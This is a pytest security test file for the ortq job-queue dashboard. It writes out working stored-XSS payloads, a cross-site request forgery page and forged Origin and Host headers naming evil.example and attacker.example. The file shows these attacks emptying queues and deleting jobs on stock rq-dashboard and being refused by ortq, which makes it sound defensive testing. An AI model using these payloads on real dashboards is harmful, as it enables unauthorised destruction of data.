"""``ortq dashboard`` attacked as the issue describes, in headless Chromium and over HTTP: stored XSS
by three routes (a queue name, a job's description, and a tensor name that a real worker quotes in
its InvalidInput message), cross-site requests (CSRF), DNS rebinding, and its optional login.

Each XSS payload and the cross-site page would empty a queue (or requeue, or delete a job). The same
payloads and page are shown to do so against rq-dashboard's own app on the same Redis (made
pickle-free, nothing else): that is what ortq served before, and it shows the payloads are live.
"""

from __future__ import annotations

import http.server
import os
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import msgpack
import numpy as np
import pytest
import redis

from ortq import keys
from ortq.dashboard import templates
from ortq.dashboard.guard import Access
from ortq.dashboard.throttle import FREE_FAILURES
from ortq.errors import ConfigurationError, InferenceFailed
from ortq.localredis import LocalRedis
from ortq.producer import Producer
from ortq.settings import Settings
from tests.cli_support import invoke
from tests.conftest import WorkerProcesses, eventually
from tests.dashboard_support import Dashboard, basic_auth, browse, forge_job, start_dashboard, start_stock_rq_dashboard

X = np.ones((1, 4), np.float32)
VICTIM_JOBS = 3


@dataclass
class Target:
    """What the attacks are aimed at: ``victim`` (an ortq queue holding VICTIM_JOBS jobs), and the
    pages that show each stored payload."""

    connection: redis.Redis
    ortq: Dashboard
    stock: Dashboard
    victim: str  # queue name
    other: str  # a non-ortq queue whose failed job a cross-site GET would requeue
    other_job: str
    pages: dict[str, str]  # XSS route -> path of the page that shows it

    def refill(self) -> None:
        self.connection.delete(keys.queue_key(self.victim.removeprefix(keys.PREFIX)))
        for n in range(VICTIM_JOBS):
            forge_job(self.connection, self.victim, "queued", job_id=f"victim-{os.getpid()}-{n}", status="queued")

    def victim_jobs(self) -> int:
        return int(self.connection.llen("rq:queue:" + self.victim))


def payload(victim: str) -> str:
    """HTML that empties ``victim`` if it runs in a dashboard page: jQuery's $.post sends the page's
    CSRF token and Origin, as the page's own buttons do. No quotes, so that Python's repr of it (in
    the worker's InvalidInput message) leaves it intact."""
    return f"<img src=x onerror=$.post(this.dataset.u) data-u=/rq/queue/{victim}/queued/empty>"


@pytest.fixture(scope="module")
def target(redis_server: LocalRedis, tiny_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    log_dir = tmp_path_factory.mktemp("dashboard-security")
    model, victim, other = (f"dash-{name}-{os.getpid()}" for name in ("xss", "victim", "other"))
    victim = keys.queue_name(victim)
    group = WorkerProcesses(log_dir)
    producer = Producer(settings=Settings.from_url(redis_server.url), validate=False)
    connection = producer.connection
    dashboards: list[Dashboard] = []
    try:
        group.serve(tiny_path, model, redis_server.url)
        # Route 1: a queue name in rq:queues (a producer's ACL may SADD there).
        connection.sadd(keys.RQ_QUEUES_SET, "rq:queue:" + payload(victim))
        # Route 2: a job hash's description (a producer's ACL may HSET job hashes).
        described = forge_job(connection, keys.queue_name(model), description=payload(victim))
        # Route 3: nothing but a request whose tensor name is the payload; the worker fails it with
        # InvalidInput quoting the name, and ortq's page links to the job from its latest failures.
        quoted = producer.submit(model, {payload(victim): X})
        with pytest.raises(InferenceFailed, match="InvalidInput"):
            quoted.result(timeout=30)
        eventually(lambda: connection.zscore("rq:failed:" + keys.queue_name(model), quoted.id) is not None)
        other_job = forge_job(connection, other, data=msgpack.packb(["app.tasks.resize", None, [], {}]))
        dashboards.append(start_dashboard(redis_server.url, log_dir))
        dashboards.append(start_stock_rq_dashboard(redis_server.url, log_dir))
        ortq, stock = dashboards
        links = re.findall(r'<a href="(/rq/0/view/job/[^"]+)">', ortq.get("/"))
        [route3] = [link for link in links if link.endswith(quoted.id)]
        pages = {"queue name": "/rq/", "job description": f"/rq/0/view/job/{described}", "tensor name": route3}
        found = Target(connection, ortq, stock, victim, other, other_job, pages)
        found.refill()
        yield found
    finally:
        for dashboard in dashboards:
            dashboard.stop()
        group.stop_all()
        producer.close()


@pytest.mark.parametrize("route", ["queue name", "job description", "tensor name"])
def test_stored_xss_does_not_run(target: Target, route: str, tmp_path: Path) -> None:
    target.refill()
    # rq-dashboard as it was: the payload runs in the page and empties the victim queue.
    browse(target.stock.url + target.pages[route].lstrip("/"), tmp_path / "stock")
    eventually(lambda: target.victim_jobs() == 0, timeout=15)
    target.refill()
    # ortq's: the page shows the payload as text, and the queue keeps its jobs.
    dom = browse(target.ortq.url + target.pages[route].lstrip("/"), tmp_path / "ortq")
    assert "&lt;img src=x onerror=$.post(this.dataset.u)" in dom, dom[-3000:]
    assert "<img src=" not in dom
    assert target.victim_jobs() == VICTIM_JOBS
    target.ortq.check_no_pickle()


def test_ortq_page_escapes_the_quoted_tensor_name(target: Target) -> None:
    html = target.ortq.get("/")
    assert "unknown [&#39;&lt;img src=x onerror=$.post(this.dataset.u)" in html and "<img" not in html


def test_served_templates_escape_every_value(target: Target) -> None:
    """What Chromium checked for three fields holds for all: no raw interpolation in any page, and
    Jinja values in scripts as JSON (the queue name from the URL went into a JS string raw)."""
    for path in ("/rq/", f"/rq/0/view/jobs/{target.victim}/queued/8/asc/1", "/rq/0/view/workers",
                 target.pages["job description"]):  # fmt: skip
        assert "<%=" not in target.ortq.get(path)
    page = target.ortq.get("/rq/0/view/jobs/a'b</queued/8/asc/1")
    assert '$(this).val("a\\u0027b\\u003c");' in page


def test_a_template_ortq_cannot_fix_stops_the_dashboard() -> None:
    sources = templates.shipped_sources()
    with pytest.raises(ConfigurationError, match=r"template jobs\.html has 0 copies"):
        templates.apply({**sources, "jobs.html": sources["jobs.html"].replace('<div class="job_id">', "<div>")})
    with pytest.raises(ConfigurationError, match="unescaped underscore interpolation"):
        templates.check("queues.html", "<td><%= d.name %></td>")
    with pytest.raises(ConfigurationError, match="in a script without"):
        templates.check("scripts/jobs.js", "$(this).val('{{ queue.name }}');")
    with pytest.raises(ConfigurationError, match="marked safe"):
        templates.check("job.html", "{{ description|safe }}")


def actions(target: Target) -> list[str]:
    """Every state-changing request rq-dashboard's pages make, aimed at the target's records."""
    return [
        f"/rq/queue/{target.victim}/queued/empty",
        f"/rq/queue/{target.victim}/compact",
        f"/rq/job/{target.other_job}/delete",
        f"/rq/job/{target.other_job}/requeue",
        f"/rq/requeue/{target.other}",
    ]


def unchanged(target: Target) -> bool:
    return (
        target.victim_jobs() == VICTIM_JOBS
        and target.connection.zscore(f"rq:failed:{target.other}", target.other_job) is not None
        and bool(target.connection.exists(keys.job_key(target.other_job)))
    )


def test_state_changes_need_a_same_origin_post_with_the_token(target: Target) -> None:
    target.refill()
    dash, token, origin = target.ortq, target.ortq.csrf_token(), target.ortq.url.rstrip("/")
    for path in actions(target):
        assert dash.request(path).status == 405, path  # GET: from an <img>, a link, a prefetch
        attempts = {
            "no token": {"Origin": origin},
            "wrong token": {"Origin": origin, "X-CSRFToken": token[:-2] + "xx"},
            "another origin": {"Origin": "http://evil.example", "X-CSRFToken": token},
            "another referer": {"Referer": "http://evil.example/page", "X-CSRFToken": token},
            "null origin": {"Origin": "null", "X-CSRFToken": token},
            "not a URL": {"Origin": "http://[", "X-CSRFToken": token},
            "cross-site fetch": {"Origin": origin, "X-CSRFToken": token, "Sec-Fetch-Site": "cross-site"},
            "same-site fetch": {"Origin": origin, "X-CSRFToken": token, "Sec-Fetch-Site": "same-site"},
        }
        for attempt, headers in attempts.items():
            answer = dash.request(path, "POST", headers)
            assert answer.status == 403, (path, attempt, answer)
    assert unchanged(target)
    # The dashboard's own page (its Origin and token) may.
    assert dash.json(f"/rq/queue/{target.victim}/queued/empty", "POST") == {"status": "OK"}
    assert target.victim_jobs() == 0
    target.refill()


ATTACK_PAGE = """<!DOCTYPE html><html><body>
<img src="{dash}rq/requeue/{other}">
<iframe name="sink"></iframe>
<form id="empty" method="POST" target="sink" action="{dash}rq/queue/{victim}/queued/empty"></form>
<script>
fetch("{dash}rq/job/{job}/delete", {{method: "POST", mode: "no-cors", credentials: "include"}});
setTimeout(function() {{ document.getElementById("empty").submit(); }}, 300);
</script></body></html>"""


@pytest.fixture
def attacker_site(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """A web server of another origin (another port), serving files from a folder."""
    handler = partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/", tmp_path
    finally:
        server.shutdown()
        server.server_close()


def test_a_cross_site_page_cannot_change_state(target: Target, attacker_site: tuple[str, Path], tmp_path: Path) -> None:
    site, folder = attacker_site

    def attack(dash: Dashboard, profile: str) -> None:
        page = ATTACK_PAGE.format(dash=dash.url, other=target.other, victim=target.victim, job=target.other_job)
        (folder / f"{profile}.html").write_text(page)
        browse(f"{site}{profile}.html", tmp_path / profile)

    target.refill()
    attack(target.ortq, "ortq")
    assert unchanged(target)
    log = target.ortq.log.read_text()  # the browser did send all three, and each was refused
    for refused in (f"GET /rq/requeue/{target.other}", f"POST /rq/queue/{target.victim}/queued/empty",
                    f"POST /rq/job/{target.other_job}/delete"):  # fmt: skip
        assert f"refused {refused} from 127.0.0.1" in log, log[-3000:]
    # rq-dashboard as it was: the <img> requeued, the form emptied the queue, fetch() deleted the job.
    try:
        attack(target.stock, "stock")

        def stock_obeyed() -> bool:
            return target.victim_jobs() == 0 and not target.connection.exists(keys.job_key(target.other_job))

        eventually(stock_obeyed, 30)  # a page's timers and three requests: slow on a loaded machine
    finally:  # the next tests need the victims back, whatever happened here
        target.other_job = forge_job(target.connection, target.other, data=msgpack.packb(["app.tasks.f", None, [], {}]))
        target.refill()


def test_dns_rebinding_is_refused(target: Target) -> None:
    """Listening on loopback, the dashboard answers to loopback names only: a page whose own host
    name is made to resolve to 127.0.0.1 would otherwise be same-origin with it."""
    port = target.ortq.url.rstrip("/").rsplit(":", 1)[1]
    refused = target.ortq.request("/", headers={"Host": f"attacker.example:{port}"})
    assert refused.status == 400 and "--allowed-host attacker.example" in refused.body
    for host in ("localhost", "127.0.0.1", "[::1]"):
        assert target.ortq.request("/rq/", headers={"Host": f"{host}:{port}"}).status == 200


def test_every_answer_has_the_security_headers(target: Target) -> None:
    answer = target.ortq.request("/rq/")
    nonce = re.search(r"'nonce-([^']+)'", answer.headers["Content-Security-Policy"])
    assert nonce and f'<script type="text/javascript" nonce="{nonce.group(1)}">' in answer.body
    for path in ("/", "/api/info", "/rq/0/data/queues.json", "/rq/static/js/jquery-3.5.1.min.js", "/nowhere"):
        headers = target.ortq.request(path).headers
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], path
        assert "'unsafe-inline'" not in headers["Content-Security-Policy"].split("script-src")[1].split(";")[0]
        assert (headers["X-Content-Type-Options"], headers["X-Frame-Options"]) == ("nosniff", "DENY")


# --- login ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def guarded(redis_server: LocalRedis, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dashboard]:
    """A dashboard started with its login in $ORTQ_DASHBOARD_AUTH (a password with colons)."""
    log_dir = tmp_path_factory.mktemp("dashboard-auth")
    dashboard = start_dashboard(redis_server.url, log_dir, env={"ORTQ_DASHBOARD_AUTH": "ops:pa:ss w0rd"})
    dashboard.login = ("ops", "pa:ss w0rd")
    yield dashboard
    dashboard.stop()


def test_login_is_required_when_configured(guarded: Dashboard, target: Target) -> None:
    for path in ("/", "/api/info", "/rq/", "/rq/0/data/queues.json", "/rq/static/js/jquery-3.5.1.min.js"):
        for login in (None, "Basic", basic_auth("ops", "wrong"), basic_auth("ops2", "pa:ss w0rd"), "Bearer x"):
            headers = {"Authorization": login} if login else {"Authorization": ""}
            answer = guarded.request(path, headers=headers)
            assert answer.status == 401, (path, login)
            assert answer.headers["WWW-Authenticate"].startswith('Basic realm="ortq dashboard"')
        assert guarded.request(path).status == 200, path
    # Logged in, a state change still needs the page's token and origin.
    assert guarded.request(f"/rq/queue/{target.victim}/queued/empty", "POST").status == 403
    assert target.victim_jobs() == VICTIM_JOBS


def test_chromium_logs_in_and_the_pages_work(guarded: Dashboard, target: Target, tmp_path: Path) -> None:
    with_login = guarded.url.replace("http://", "http://ops:pa%3Ass%20w0rd@")
    dom = browse(with_login + "rq/", tmp_path / "a")
    assert f"<td>{target.victim}</td>" in dom and "Loading..." not in dom
    dom = browse(guarded.url + "rq/", tmp_path / "b")
    assert target.victim not in dom


def test_wrong_logins_lock_the_address_out(redis_server: LocalRedis, tmp_path: Path) -> None:
    """Past FREE_FAILURES wrong logins in a row the client's address is refused for a while,
    the right login included (else a guess that is right would still show); requests without a
    login (a browser's first) do not count."""
    dashboard = start_dashboard(redis_server.url, tmp_path, env={"ORTQ_DASHBOARD_AUTH": "ops:s3cret"})
    try:
        wrong, right = {"Authorization": basic_auth("ops", "guess")}, {"Authorization": basic_auth("ops", "s3cret")}
        for _ in range(FREE_FAILURES + 5):
            assert dashboard.request("/api/info", headers={"Authorization": ""}).status == 401
        assert dashboard.request("/api/info", headers=right).status == 200
        for _ in range(FREE_FAILURES):
            assert dashboard.request("/api/info", headers=wrong).status == 401
        assert dashboard.request("/api/info", headers=right).status == 200  # resets the count
        for _ in range(FREE_FAILURES + 1):
            assert dashboard.request("/api/info", headers=wrong).status == 401
        refused = dashboard.request("/api/info", headers=right)
        assert refused.status == 429 and refused.headers["Retry-After"] == "1", refused
        assert "too many wrong logins" in refused.body
        eventually(lambda: dashboard.request("/api/info", headers=right).status == 200, timeout=5)
        assert "too many wrong logins from 127.0.0.1" in dashboard.log.read_text()
    finally:
        dashboard.stop()


def test_auth_option_and_host_checks() -> None:
    """--auth must be USER:PASSWORD; the Host check applies on loopback or with --allowed-host."""
    done = invoke("dashboard", "--auth", "nocolon")
    assert done.returncode == 2 and "USER:PASSWORD" in done.stderr and done.no_traceback(), done.stderr
    assert Access.for_listener("127.0.0.1", None).hosts == {"localhost", "127.0.0.1", "::1"}
    assert Access.for_listener("0.0.0.0", "a:b").hosts is None
    assert Access.for_listener("0.0.0.0", None, ["GPU-box:9181"]).hosts == {"localhost", "127.0.0.1", "::1", "gpu-box"}
    assert Access.for_listener("::1", "a:b:c").credentials == ("a", "b:c")


def test_listening_beyond_loopback_without_login_warns(redis_url: str, tmp_path: Path) -> None:
    dashboard = start_dashboard(redis_url, tmp_path, "--host", "0.0.0.0", "--allowed-host", "gpu-box")
    try:
        assert "warning: listening on 0.0.0.0 without --auth" in dashboard.log.read_text()
        port = dashboard.url.rstrip("/").rsplit(":", 1)[1]
        dashboard.url = f"http://127.0.0.1:{port}/"
        assert dashboard.request("/", headers={"Host": f"gpu-box:{port}"}).status == 200
        assert dashboard.request("/", headers={"Host": f"other:{port}"}).status == 400
    finally:
        dashboard.stop()
